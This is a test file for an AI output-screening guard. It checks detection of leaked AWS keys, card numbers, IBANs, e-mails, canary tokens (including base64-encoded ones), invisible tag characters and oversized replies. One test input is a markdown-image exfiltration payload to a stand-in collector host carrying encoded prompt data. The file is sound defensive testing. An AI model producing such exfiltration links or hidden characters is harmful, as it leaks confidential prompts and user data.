import { describe, expect, it } from "vitest";
import { createGuard } from "../create-guard.js";

const canary = "CNRY-5F3A9C0B7D21";
const guard = createGuard({ detectors: { canaries: [canary] } });
const rules = (result: { findings: { rule: string }[] }) => result.findings.map((finding) => finding.rule);

describe("screenOutput", () => {
  it("blocks an AWS access key, places it and shows only its first characters", () => {
    const text = "Sure, the deploy user is AKIAIOSFODNN7EXAMPLE with the usual secret.";
    const result = guard.screenOutput(text);
    expect(result.action).toBe("block");
    const finding = result.findings[0];
    expect(finding).toMatchObject({ rule: "output.secret.aws-access-key-id", severity: "high" });
    expect(text.slice(finding?.start, finding?.end)).toBe("AKIAIOSFODNN7EXAMPLE");
    expect(finding?.detail).toBe("AWS access key id AKIA…");
  });

  it("blocks a card number that passes the Luhn check and lets a mistyped one through", () => {
    const valid = guard.screenOutput("The card on file is 4111 1111 1111 1111, expiring 12/29.");
    expect(valid.action).toBe("block");
    expect(rules(valid)).toEqual(["output.pii.payment-card"]);
    expect(guard.screenOutput("The card on file is 4111 1111 1111 1112, expiring 12/29.")).toEqual({
      action: "allow",
      findings: [],
    });
  });

  it("blocks an IBAN with valid check digits, and flags an e-mail address", () => {
    expect(rules(guard.screenOutput("Pay to DE89 3704 0044 0532 0130 00 today."))).toEqual(["output.pii.iban"]);
    expect(guard.screenOutput("Pay to DE89 3704 0044 0532 0130 01 today.").findings).toEqual([]);
    const email = guard.screenOutput("Write to jane.doe@example.com for a refund.");
    expect(email.action).toBe("flag");
    expect(email.findings[0]).toMatchObject({ rule: "output.pii.email", severity: "medium" });
  });

  it("does not count data the user gave as a leak", () => {
    const input = "My card is 4111-1111-1111-1111, please check it.";
    expect(guard.screenOutput("I checked 4111 1111 1111 1111 for you.", { input }).findings).toEqual([]);
  });

  it("blocks a canary from the context, plain, in another case, or base64-encoded", () => {
    const text = `My instructions begin with ${canary}.`;
    const plain = guard.screenOutput(text);
    expect(plain.findings[0]).toMatchObject({ rule: "output.canary", start: 27, end: 27 + canary.length });
    expect(text.slice(27, 27 + canary.length)).toBe(canary);
    expect(plain.action).toBe("block");
    expect(rules(guard.screenOutput(`the code is ${canary.toLowerCase()}`))).toEqual(["output.canary"]);
    const encoded = guard.screenOutput(`Here you go: ${Buffer.from(`secret ${canary} end`).toString("base64")}`);
    expect(rules(encoded)).toContain("output.canary");
    expect(encoded.findings.find((f) => f.rule === "output.canary")?.detail).toContain("decoded");
    expect(guard.screenOutput("Nothing to see: CNRY-000000000000.").findings).toEqual([]);
  });

  it("blocks a markdown image whose address carries data out", () => {
    const result = guard.screenOutput(
      "Done! ![status](https://collector.example/p.png?d=c2VjcmV0LXByb21wdC1jb250ZW50cy1oZXJl)",
    );
    expect(result.action).toBe("block");
    expect(rules(result)).toContain("output.exfiltration.markdown-image-with-data");
  });

  it("blocks tag characters in the output and oversized output", () => {
    const hidden = [..."leak"].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join("");
    expect(rules(guard.screenOutput(`Fine.${hidden}`))).toEqual(["output.invisible-characters"]);
    const small = createGuard({ detectors: { maxOutputChars: 100 } });
    const result = small.screenOutput("word ".repeat(100));
    expect(result).toEqual({
      action: "block",
      findings: [expect.objectContaining({ rule: "output.oversized", start: 100, end: 500 })],
    });
  });

  it("looks only for the personal-data kinds asked for, and blocks at the severity asked for", () => {
    const cardsOnly = createGuard({ detectors: { pii: ["payment_card"] } });
    expect(cardsOnly.screenOutput("Write to jane.doe@example.com").findings).toEqual([]);
    const strict = createGuard({ detectors: { blockAt: "medium" } });
    expect(strict.screenOutput("Write to jane.doe@example.com").action).toBe("block");
    const noSecrets = createGuard({ detectors: { secrets: false, pii: false } });
    expect(noSecrets.screenOutput("AKIAIOSFODNN7EXAMPLE 4111111111111111").findings).toEqual([]);
  });
});
